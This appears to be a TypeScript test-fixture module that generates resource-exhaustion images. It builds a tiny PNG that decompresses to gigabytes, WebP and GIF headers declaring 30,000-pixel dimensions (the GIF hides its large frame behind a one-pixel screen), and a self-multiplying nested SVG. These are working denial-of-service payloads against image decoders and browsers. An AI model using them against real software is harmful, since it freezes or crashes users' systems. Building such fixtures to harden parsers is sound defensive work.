// Pictures of some hundred bytes that unpack to gigabytes, and a drawing that repeats itself: whoever draws them has no memory or time left.
import { crc32, deflateSync } from 'node:zlib'

const side = 30_000

function part(name: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(name), content])
  const bytes = Buffer.alloc(named.length + 8)
  bytes.writeUInt32BE(content.length)
  named.copy(bytes, 4)
  bytes.writeUInt32BE(crc32(named), named.length + 4)
  return bytes
}

/** A whole one: it would be drawn. */
export function hugePng(): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(side)
  head.writeUInt32BE(side, 4)
  head.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc((side / 8 + 1) * side))
  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
  return Buffer.concat([signature, part('IHDR', head), part('IDAT', rows), part('IEND', Buffer.alloc(0))])
}

export function hugeWebp(): Buffer {
  const bytes = Buffer.alloc(40)
  bytes.write('RIFF')
  bytes.writeUInt32LE(32, 4)
  bytes.write('WEBPVP8X', 8)
  bytes.writeUInt32LE(10, 16)
  bytes.writeUIntLE(side - 1, 24, 3)
  bytes.writeUIntLE(side - 1, 27, 3)
  return bytes
}

/** Its screen is one pixel, and its picture is not: browsers draw what is larger. */
export function hugeGif(): Buffer {
  const bytes = Buffer.alloc(40)
  bytes.write('GIF89a')
  bytes.writeUInt16LE(1, 6)
  bytes.writeUInt16LE(1, 8)
  // A comment first.
  bytes.set([0x21, 0xfe, 2, 0x2c, 0x2c, 0], 13)
  bytes[19] = 0x2c
  bytes.writeUInt16LE(side, 24)
  bytes.writeUInt16LE(side, 26)
  return bytes
}

/** Each of its groups draws the one before ten times. */
export function multiplyingDrawing(): string {
  const groups = Array.from({ length: 9 }, (_one, depth) => {
    const drawn = depth === 0 ? '<rect width="9" height="9"/>' : `<use href="#g${depth - 1}"/>`.repeat(10)
    return `<g id="g${depth}">${drawn}</g>`
  })
  return `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">${groups.join('')}</svg>`
}
